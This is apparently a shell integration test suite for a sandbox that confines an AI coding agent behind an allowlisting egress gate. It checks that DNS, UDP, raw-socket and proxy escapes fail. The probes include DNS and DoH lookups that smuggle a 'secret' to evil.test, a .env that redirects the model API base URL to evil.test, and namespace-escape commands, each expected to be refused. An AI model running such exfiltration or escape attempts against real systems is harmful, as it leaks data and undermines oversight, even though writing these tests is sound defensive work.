# From inside there is one way out: the gate. Rows N01-N03, N07-N11, T15.
. "${0%/*}/lib.sh"

site_ ''
s=$(slug_ iso)
o=$(slug_ iso2)
# Services that the host has on every address: nothing of them may be reachable.
python3 -m http.server 18099 --bind 0.0.0.0 --directory "$IT_WORK/site" >/dev/null 2>&1 &
web=$!
trap 'kill $web 2>/dev/null' EXIT
up_ "$s" root || echo "# the bottle did not come up: $(cat "$err")"
up_ "$o" root || echo "# the second bottle did not come up: $(cat "$err")"
address() { off || docker inspect -f "{{(index .NetworkSettings.Networks \"$2\").IPAddress}}" "$1" 2>/dev/null; }

# Silence takes seconds: those who may meet it try beside each other, in one command inside.
# beside_ SECONDS OPTIONS URL…: curl's status, the answer's code and the URL, a line each.
beside_() {
	most=$1 with=$2
	shift 2
	sh_ "$s" "for u in $*; do (c=\$(curl -sS -m $most -o /dev/null -w '%{http_code}' $with \"\$u\" 2>/dev/null); echo \"\$? \$c \$u\") & done; wait"
	expect "each was tried" [ "$(wc -l <"$out")" -eq $# ]
}
# A failed connection and no answer, each.
all_fail() { ! grep -vE '^[1-9][0-9]* 000 ' "$out"; }

case_ "nothing answers by address past the gate (N01)"
beside_ 6 "--noproxy '*'" https://1.1.1.1/ "http://$UP/"
expect "no connection, to the upstream itself neither" all_fail
expect "no connection past the gate" grep -qE '^(7|28) 000 https://1.1.1.1/$' "$out"
sh_ "$s" "curl -sS -m 6 -o /dev/null -w '%{http_connect}' https://1.1.1.1/"
expect_out 403

case_ "a service of the host on 0.0.0.0 is not reachable through any address of the host"
wait_for 5 curl -sS -o /dev/null http://127.0.0.1:18099/ || bad "the service does not run"
hosts=$(ip -o -4 addr show | awk '{ sub("/.*", "", $4); if ($4 !~ /^127[.]/) printf "http://%s:18099/ ", $4 }')
# Where an engine gives the host an address on a network: the first one.
first=
if [ "$IT_BACKEND" = docker ]; then
	sh_ "$s" 'set -- $(getent hosts bottle-gate); echo "${1%.*}.$((${1##*.} - 1))"'
	first=http://$(cat "$out"):18099/
	expect_out 10.
fi
# shellcheck disable=SC2086
beside_ 4 "--noproxy '*'" $hosts $first
expect "no answer at any" all_fail
# shellcheck disable=SC2086
beside_ 4 '' $hosts
expect "the gate refuses each" sh -c '! grep -vE "^0 403 " "$1"' sh "$out"

case_ "UDP, DNS over TLS and HTTPS, raw packets and ICMP go nowhere (N02, N04)"
sh_ "$s" 'for u in https://1.1.1.1/dns-query https://dns.google/resolve; do curl -sS -m 6 -o /dev/null -w "doh %{http_connect}\n" "$u?name=secret.evil.test"; done'
expect "the gate refuses both" [ "$(grep -c '^doh 403$' "$out")" -eq 2 ]
sh_ "$s" 'python3 - <<"PY"
import socket, threading
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    try:
        s.sendto(b"\0" * 32, (host, port))
        s.recv(10)
        print("ANSWER %s %d\n" % (host, port), end="", flush=True)
    except OSError as e:
        print("none %s %d\n" % (host, port), end="", flush=True)
def tcp(host, port):
    try:
        socket.create_connection((host, port), 4)
        print("ANSWER %d\n" % port, end="", flush=True)
    except OSError:
        print("none %s %d\n" % (host, port), end="", flush=True)
tries = [threading.Thread(target=f, args=(host, port)) for f, host, port in
    ((udp, "1.1.1.1", 53), (udp, "8.8.8.8", 443), (udp, "1.1.1.1", 123), (tcp, "1.1.1.1", 853))]
for t in tries: t.start()
for t in tries: t.join()
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    print("ANSWER raw")
except OSError:
    print("none raw")
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print("ANSWER packet")
except OSError:
    print("none packet")
PY'
expect_out "none packet"
for t in "1.1.1.1 53" "8.8.8.8 443" "1.1.1.1 123" "1.1.1.1 853"; do expect_out "none $t"; done
refuse_out ANSWER

case_ "a name that is not allowed is asked of nobody (N03)"
sh_ "$s" 'getent hosts secret-0123456789.evil.test; echo $?'
expect_out 2
expect_event "$s" '.event == "dns" and .host == "secret-0123456789.evil.test" and .verdict == "block"'

case_ "there is no IPv6 (N07)"
sh_ "$s" 'cat /proc/net/if_inet6; ip -6 route'
refuse_out eth0

case_ "the other bottle and its gate are not reachable (N08)"
needs_ docker "bottles have no addresses but 127.0.0.1, each its own; native_test looks for their names"
urls='' hosts=0
for a in $(address "bottle-gate-$o" "bottle-net-$o") $(address "bottle-gate-$o" "bottle-out-$o") \
	$(address "bottle-agent-$o" "bottle-net-$o") $(address "bottle-gate-$s" "bottle-out-$s"); do
	hosts=$((hosts + 1))
	for p in 8888 443 80 53; do urls="$urls http://$a:$p/"; done
done
expect "four addresses to try" [ $hosts -eq 4 ]
# shellcheck disable=SC2086
beside_ 3 "--noproxy '*'" $urls
expect "no connection to any" sh -c '! grep -vE "^(7|28) 000 " "$1"' sh "$out"

case_ "the gate's admin is not reachable (N08)"
sh_ "$s" "curl -sS -m 3 -o /dev/null -w '%{http_code}' --noproxy '*' http://bottle-gate:8888/metrics; find / -xdev -name admin.sock 2>/dev/null"
refuse_out admin.sock
refuse_out 200

case_ "the network cannot be changed from inside (N09)"
for c in 'ip route add default via 10.213.0.1' 'ip addr add 10.9.9.9/24 dev eth0' 'ip link set eth0 down' \
	'unshare -n true' 'unshare -Urn true' 'mount -t tmpfs x /mnt' 'nsenter -t 1 -n true'; do
	sh_ "$s" "$c"
	expect "refused: $c" [ "$status" -ne 0 ]
done
sh_ "$s" 'grep -E "CapEff|NoNewPrivs|Seccomp:" /proc/self/status'
expect_out "$(printf 'NoNewPrivs:\t1')"
expect_out "$(printf 'Seccomp:\t2')"
refuse_out 3fffffff

case_ "a project that sets the model's address, or its own CA, does not get out by that (N18)"
sh_ "$s" 'mkdir -p /tmp/n18 && cd /tmp/n18 && echo "ANTHROPIC_BASE_URL=https://evil.test" >.env && . ./.env
	curl -sS -m 6 -o /dev/null -w "base %{http_connect}\n" -H "x-api-key: k" "$ANTHROPIC_BASE_URL/v1/messages"
	NODE_EXTRA_CA_CERTS=/tmp/n18/none.pem node -e "require(\"https\").get(\"https://evil.test/\").on(\"error\", e => console.log(\"node\", e.code))" 2>/dev/null'
expect_out "base 403"
expect_out "node ENOTFOUND"

case_ "an allowed host is refused on another port (N10)"
for p in 22 25 8443; do
	sh_ "$s" "curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://api.good.test:$p/"
	expect_out 403
done

case_ "the gate does not proxy to itself (N11)"
[ "$IT_BACKEND" = docker ] && gate=$(address "bottle-gate-$s" "bottle-net-$s") || gate=127.0.0.1
sh_ "$s" "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://bottle-gate:8888/; curl -sS -m 5 -o /dev/null -w ' %{http_code}' --noproxy '' -x http://bottle-gate:8888 http://$gate:8888/"
refuse_out 200
refuse_out 502

case_ "a name with a secret's entropy under a wildcard is refused"
sh_ "$s" 'curl -sS -o /dev/null -w "%{http_connect}" https://q7x2kz9w4mb8vn3rtl5yj6hd.a.wild.test/'
expect_out 403

case_ "what is not allowed is 403 with the reason, and no DNS query is made for it"
sh_ "$s" 'curl -sS -i -x http://bottle-gate:8888 http://evil.test/ ; curl -sS -v https://evil.test/ 2>&1'
expect_out "403"
expect_out "X-Bottle-Reason: allowlist"

case_ "one bottle's CA is not trusted in another (T15)"
in_ "$o" cat "$ca_file"
other=$(cat "$out")
sh_ "$s" "echo '$other' >/tmp/other.crt; openssl x509 -in /tmp/other.crt -noout -subject; openssl verify -CAfile /etc/ssl/certs/ca-certificates.crt /tmp/other.crt 2>&1"
expect_out "Bottle CA $o"
refuse_out ": OK"

case_ "the agent runs with no more rights than its image needs, and with limits"
needs_ docker "there is no container to ask; native_test's probe looks at the process"
run_ docker inspect "bottle-agent-$s"
expect_out '"no-new-privileges"'
expect "memory, processes and CPUs are limited" jq -e '.[0].HostConfig | .Memory > 0 and .PidsLimit > 0 and .NanoCpus > 0' "$out"
sh_ "$s" 'grep CapBnd /proc/self/status'
expect_out 00000000000000cb # CHOWN DAC_OVERRIDE FOWNER SETGID SETUID
gate=/proc/$(docker inspect -f '{{.State.Pid}}' "bottle-gate-$s" 2>/dev/null || echo 1)
run_ cat "$gate/status"
expect "the gate: an ordinary user" grep -qE '^Uid:.65532.65532.65532.65532$' "$out"
expect "the gate: one capability, NET_BIND_SERVICE" grep -qE '^CapBnd:.0000000000000400$' "$out"
run_ cat "$gate/mounts"
expect "the gate: a read-only root" grep -qE '^[^ ]+ / [^ ]+ ro,' "$out"

down_ "$o"
case_ "stopping one bottle leaves the other alone"
sh_ "$s" 'curl -sS https://api.good.test/'
expect_out "hello from api.good.test"
expect_nothing_left "$o"
down_ "$s"
expect_nothing_left "$s"
done_
